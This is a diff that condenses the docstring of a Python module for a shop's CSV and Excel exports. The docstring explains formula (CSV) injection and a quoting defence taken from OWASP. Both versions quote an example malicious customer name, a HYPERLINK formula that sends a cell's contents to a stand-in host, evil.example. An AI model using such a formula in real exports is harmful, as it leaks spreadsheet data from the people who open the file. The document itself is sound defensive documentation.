@@ -1,16 +1,12 @@
 """Cells of the files the shop hands out to be opened in a spreadsheet (CSV and Excel exports).
 
-A spreadsheet program (Excel, WPS, LibreOffice) runs a cell that starts with ``=``, ``+``,
-``-`` or ``@`` as a formula, and a leading tab or carriage return lets one follow: a customer
-who names themselves ``=HYPERLINK("http://evil.example/?x="&A1,"点我")`` would otherwise get a
-live link (or a DDE command) into the finance clerk's sheet. OWASP's rule for CSV injection
-(https://owasp.org/www-community/attacks/CSV_Injection) is to put a single quote in front of
-such a cell, so that it is read as text. :func:`safe_text` is that rule, for every export
-(CSV here, Excel in :mod:`starmall.xlsx_stream`). Only text is touched: amounts written as numbers (``Decimal`` yuan,
-negative for a refund-heavy day) stay numbers that a column sum adds.
-
-(``defusedcsv`` does this for CSV writers only and also rewrites ``|`` inside cells; the
-Excel files need the same rule, so the one function here serves both.)
+A spreadsheet program (Excel, WPS, LibreOffice) runs a cell that starts with ``=``, ``+``, ``-`` or ``@``
+as a formula, and a leading tab or carriage return lets one follow: a customer named
+``=HYPERLINK("http://evil.example/?x="&A1,"点我")`` would get a live link into the finance clerk's sheet.
+:func:`safe_text` is OWASP's rule for CSV injection (https://owasp.org/www-community/attacks/CSV_Injection):
+a single quote in front, so the cell is read as text; every export uses it (CSV here, Excel in
+:mod:`starmall.xlsx_stream`; ``defusedcsv`` serves CSV writers only). Only text is touched: amounts
+written as numbers (``Decimal`` yuan, negative for a refund-heavy day) stay numbers a column sum adds.
 """
 
 from __future__ import annotations
